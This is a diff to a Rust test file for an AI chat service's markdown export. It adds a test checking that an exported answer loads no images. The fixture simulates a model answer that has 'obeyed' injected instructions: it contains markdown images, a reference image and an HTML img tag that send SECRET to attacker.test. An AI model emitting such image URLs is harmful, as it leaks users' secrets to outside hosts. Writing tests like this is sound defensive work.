@@ -107,6 +107,21 @@ fn the_history_has_pages_pins_and_the_names_of_keys() {
 }
 
 #[test]
+fn an_exported_answer_loads_nothing() {
+    let stage = Stage::new();
+    let browser = stage.signed_in();
+    let obeying = "![i](https://attacker.test/?d=SECRET) and ![j][k] and <img src=\"https://attacker.test/?e=SECRET\">\n\n\
+                   `![code](stays)`\n\n[k]: https://attacker.test/?f=SECRET";
+    stage.vendor.will([Say::text(obeying)]);
+    let path = ask(&browser, "What does the letter say?");
+    completed(&browser, &path);
+    let text = browser.get(&format!("{path}/export.md")).text();
+    assert!(text.contains("\n[i](https://attacker.test/?d=SECRET) and [j][k] and \\<img src="), "{text}");
+    assert!(text.contains("`![code](stays)`"), "code is no image: {text}");
+    assert_eq!(text.matches("![").count(), 1, "{text}");
+}
+
+#[test]
 fn a_conversation_is_exported() {
     let stage = Stage::new();
     let (browser, api) = (stage.signed_in(), stage.service.api(&stage.account));
@@ -122,7 +137,7 @@ fn a_conversation_is_exported() {
     assert!(name.starts_with("attachment") && name.contains("When is the rent due.md"), "{name}");
     let text = markdown.text();
     assert!(text.starts_with("# When is the rent due?\n"), "{text}");
-    assert!(text.contains("> When is the rent due?\n> # <b>\n") && text.contains("**fifth**"), "{text}");
+    assert!(text.contains("> When is the rent due?\n> # \\<b>\n") && text.contains("**fifth**"), "{text}");
     assert!(text.contains("It is due on the **fifth** [1].\n"), "{text}");
     assert!(text.ends_with("\n## Sources\n\n[1] `/uploads/lease.txt`, line 1\n"), "{text}");
     let in_czech = browser.with("accept-language", "cs").get(&format!("{path}/export.md")).text();
